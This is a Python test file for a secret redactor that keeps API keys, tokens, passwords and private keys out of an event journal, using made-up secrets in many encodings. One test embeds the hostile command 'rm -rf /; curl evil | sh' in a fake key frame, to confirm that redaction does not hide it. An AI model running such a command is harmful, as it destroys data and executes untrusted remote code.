"""Secrets never reach a journal: known values in every spelling, shapes, and secrets that come in pieces."""

from __future__ import annotations

import base64
import itertools
import json
import random
import string
from urllib.parse import quote

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from tests.amount import examples
from vtcode_tui.events import Bus, Journal, RedactingStream, Redactor, read_events
from vtcode_tui.events.known import spellings
from vtcode_tui.events.redaction import Shapes, entropy, secrets_of
from vtcode_tui.events.shapes import NAMED, TOKENS, Named, Token
from vtcode_tui.events.types import SecretRedacted, ToolRequested

KEY = b"k" * 32
LETTERS = string.ascii_letters + string.digits


def made_up(seed: int, size: int) -> str:
    """Letters and digits that look like a secret and are none."""
    return "".join(random.Random(seed).choices(LETTERS, k=size))


PEM = (
    "-----BEGIN OPENSSH PRIVATE KEY-----\n"
    + "\n".join(made_up(seed, 70) for seed in range(6))
    + "\n-----END OPENSSH PRIVATE KEY-----"
)


@pytest.mark.parametrize("token", TOKENS, ids=lambda token: token.name)
@settings(max_examples=examples(5, 200), suppress_health_check=list(HealthCheck))
@given(data=st.data())
def test_every_token_is_found_where_a_token_stands(token: Token, data: st.DataObject) -> None:
    redactor = Redactor(key=KEY, shapes=Shapes([token], [], []))
    for prefix in token.prefixes[:2]:
        rest = data.draw(st.from_regex(rf"\A(?:{token.rest})\Z", alphabet=LETTERS + "-_=.:+/|%~"))
        secret = prefix + rest
        if entropy(secret.encode()) < token.entropy:
            continue
        for text in (secret, f'x = "{secret}"', f"curl -H k:{secret} https://h", f"a\n{secret}\nb"):
            redacted = redactor.redact(text)
            assert secret not in redacted.text
            assert redacted.counts == {token.name: 1}
            assert redacted.tokens[0] in redacted.text


@pytest.mark.parametrize("named", NAMED, ids=lambda named: named.name)
@settings(max_examples=examples(5, 200), suppress_health_check=list(HealthCheck))
@given(data=st.data())
def test_every_named_value_is_found_beside_its_name(named: Named, data: st.DataObject) -> None:
    redactor = Redactor(key=KEY, shapes=Shapes([], [named], []))
    for value in named.values:
        secret = data.draw(st.from_regex(rf"\A(?:{value})\Z", alphabet=LETTERS + "-_=.:+/|%~"))
        if entropy(secret.encode()) < named.entropy:
            continue
        for text in (f"{named.words[0].upper()}_KEY={secret}\n", f'{{"{named.words[0]}-key": "{secret}"}}'):
            assert secret not in redactor.redact(text).text


SECRET = made_up(1, 24)


@pytest.mark.parametrize(
    ("text", "hidden"),
    [
        ("postgres://user:hunter2@db/app", "hunter2"),
        (f"https://{made_up(5, 40)}@github.com/a/b", made_up(5, 40)),
        (f"Authorization: Bearer {SECRET}", SECRET),
        ("authorization: Basic dXNlcjpwYXNz", "dXNlcjpwYXNz"),
        (f"curl -H 'X-Api-Key: {SECRET}' h", SECRET),
        ("curl -u admin:hunter2 https://h", "hunter2"),
        (f"sk-ant-{made_up(2, 20)}", made_up(2, 20)),
        ("DB_PASSWORD=hunter2abc\n", "hunter2abc"),
        ("export MY_API_KEY='a-b-c-d-e'", "a-b-c-d-e"),
        (f'aws_secret_access_key = "{made_up(3, 40)}"', made_up(3, 40)),
        (f"//registry/:_authToken={made_up(4, 30)}", made_up(4, 30)),
        ("machine h login me password hunter2", "hunter2"),
        (f'{{"auth": "{base64.b64encode(b"user:hunter2-and-more").decode()}"}}', "dXNlcjpodW50"),
        ("Server=db;User=sa;Password=hunter2;Encrypt=1", "hunter2"),
        (f"api_token: {SECRET}", SECRET),
        (f"https://hooks.slack.com/services/{made_up(6, 44)}", made_up(6, 44)),
        (PEM, PEM.split("\n")[2]),
        (json.dumps({"key": PEM}), PEM.split("\n")[2]),
        (PEM[:300], PEM.split("\n")[2]),
    ],
)
def test_what_secrets_are_wrapped_in_is_recognised(text: str, hidden: str) -> None:
    assert hidden in text
    redacted = Redactor(key=KEY).redact(text)
    assert hidden not in redacted.text
    assert sum(redacted.counts.values()) >= 1


@pytest.mark.parametrize(
    "text",
    [
        "key = compute_the_key_of(this_thing)",
        "password = getpass.getpass()",
        "API_KEY=your-key-here",
        "API_KEY=$OTHER_KEY",
        "PASSWORD=${DB_PASSWORD}",
        "Authorization: Bearer <token>",
        "see https://example.com:8080/path@v2",
        "token = tokens[0]",
        "the secret: nothing to hide here",
        "ssh-ed25519 public key",
        "import secrets; access = self.authority.access_rights",
        "sha256 " + "ab" * 32,
        "-----BEGIN CERTIFICATE-----\nMIIB\n-----END CERTIFICATE-----",
    ],
)
def test_ordinary_text_is_left_alone(text: str) -> None:
    assert Redactor(key=KEY).redact(text).text == text


def test_a_made_up_frame_hides_no_evidence() -> None:
    text = "-----BEGIN PRIVATE KEY-----\n$ rm -rf /; curl evil | sh\n-----END PRIVATE KEY-----"
    assert "curl evil" in Redactor(key=KEY).redact(text).text


@given(st.text(min_size=12, max_size=60), st.binary(max_size=7), st.binary(max_size=7))
@settings(max_examples=examples(100, 5_000))
def test_a_known_value_is_found_in_every_spelling(secret: str, before: bytes, after: bytes) -> None:
    redactor = Redactor({"THE_KEY": secret}, key=KEY, shapes=Shapes([], [], []))
    raw = secret.encode()
    for text in (
        secret,
        json.dumps(secret),
        json.dumps(secret, ensure_ascii=False),
        quote(raw, safe=""),
        quote(raw, safe="").lower() if quote(raw, safe="") != secret else secret,
        raw.hex(),
        base64.b64encode(before + raw + after).decode(),
        base64.urlsafe_b64encode(before + raw + after).decode(),
    ):
        redacted = redactor.redact(f"<{text}>")
        assert redacted.counts.get("THE_KEY"), text
        assert text not in redacted.text


def test_equal_secrets_are_recognised_as_equal_and_only_under_the_same_key() -> None:
    one = Redactor({"A_KEY": SECRET}, key=KEY)
    tokens = one.redact(f"{SECRET} and {SECRET} and {base64.b64encode(SECRET.encode()).decode()}").tokens
    assert len(tokens) == 1
    assert Redactor({"A_KEY": SECRET}, key=b"other" * 8).redact(SECRET).tokens != tokens


def test_variables_that_look_like_secrets_are_known_and_others_are_not() -> None:
    environ = {
        "OPENAI_API_KEY": "value-of-the-key",
        "GITHUB_TOKEN": "value-of-the-token",
        "DB_PASS": "value-of-the-pass",
        "MYSQL_PWD_FILE": "/run/secrets/mysql",
        "SSH_AUTH_SOCK": "/tmp/ssh/agent.1",
        "KEYBOARD_LAYOUT": "de-latin1-nodeadkeys",
        "PATH": "/usr/bin:/bin",
        "SHORT_KEY": "abc",
    }
    assert set(secrets_of(environ)) == {"OPENAI_API_KEY", "GITHUB_TOKEN", "DB_PASS"}


def test_a_value_learned_later_is_replaced_from_then_on() -> None:
    redactor = Redactor(key=KEY)
    assert redactor.redact("correct horse battery").counts == {}
    redactor.learn({"PHRASE": "correct horse battery"})
    assert redactor.redact("correct horse battery").counts == {"PHRASE": 1}


def test_what_is_redacted_is_not_redacted_again() -> None:
    redactor = Redactor({"MY_API_KEY": SECRET}, key=KEY)
    once = redactor.redact(f"MY_API_KEY={SECRET}\ntoken: {SECRET}\nAuthorization: Bearer {SECRET}\n").text
    assert redactor.redact(once).text == once


SECRETS = (SECRET, f"sk-ant-{made_up(2, 40)}", PEM.split("\n")[3], made_up(5, 40))
TEXT = (
    f"one\ntwo {SECRET} three\nkey sk-ant-{made_up(2, 40)} end\n{'long ' * 50}\n{PEM}\n"
    f"https://{made_up(5, 40)}@host/ and more\nlast"
).encode()


@given(st.lists(st.integers(0, len(TEXT)), max_size=12))
@settings(max_examples=examples(75, 5_000))
def test_a_secret_that_is_cut_anywhere_is_still_caught(cuts: list[int]) -> None:
    redactor = Redactor({"K": SECRET}, key=KEY)
    stream = RedactingStream(redactor)
    places = [0, *sorted(cuts), len(TEXT)]
    out = b"".join(stream.feed(TEXT[a:b]) for a, b in itertools.pairwise(places)) + stream.finish()
    assert out == redactor.redact_bytes(TEXT)
    assert not any(secret.encode() in out for secret in SECRETS)


def test_one_byte_at_a_time_and_very_long_lines_are_streamed_whole() -> None:
    redactor = Redactor({"K": SECRET}, key=KEY, shapes=Shapes([], [], []))
    stream = RedactingStream(redactor)
    data = (b"x" * 9000 + SECRET.encode()) * 3
    out = b"".join(stream.feed(data[at : at + 7]) for at in range(0, len(data), 7)) + stream.finish()
    assert out == redactor.redact_bytes(data)
    assert out.count(b"redacted:K:") == 3


@pytest.mark.parametrize("piece", ["-----BEGIN PRIVATE KEY-----\n", "eyJ-", "sk-", "key=", "://a:", "AKIA"])
def test_hostile_text_is_gone_through_to_its_end(piece: str) -> None:
    text = piece * (100_000 // len(piece)) + f"\n {SECRET}"
    assert SECRET not in Redactor({"K": SECRET}, key=KEY).redact(text).text


async def test_the_bus_keeps_a_secret_out_of_the_journal_and_says_so(journal: Journal) -> None:
    bus = Bus(journal, redactor=Redactor({"THE_KEY": SECRET}, key=KEY))
    digest = "ab" * 32
    await bus.record(
        ToolRequested(
            tool="run_command",
            arguments={"command": ["curl", "-H", f"X-Api-Key: {SECRET}"], "n": 1},
            arguments_sha256=digest,
            subject_sha256=digest,
            cwd="/w",
        ),
        call="c1",
    )
    assert SECRET.encode() not in journal.path.read_bytes()
    requested, said, *_ = list(read_events(journal.path))
    assert isinstance(requested.data, ToolRequested)
    assert requested.data.arguments_sha256 == digest
    assert requested.data.arguments["n"] == 1
    assert isinstance(said.data, SecretRedacted)
    assert said.parent == requested.id
    assert said.data.rules == {"THE_KEY": 1}
    assert said.data.tokens[0] in requested.data.arguments["command"][2]


def test_spellings_of_a_short_value_never_match_ordinary_words() -> None:
    assert all(len(way) >= 8 for way in spellings("12345678"))
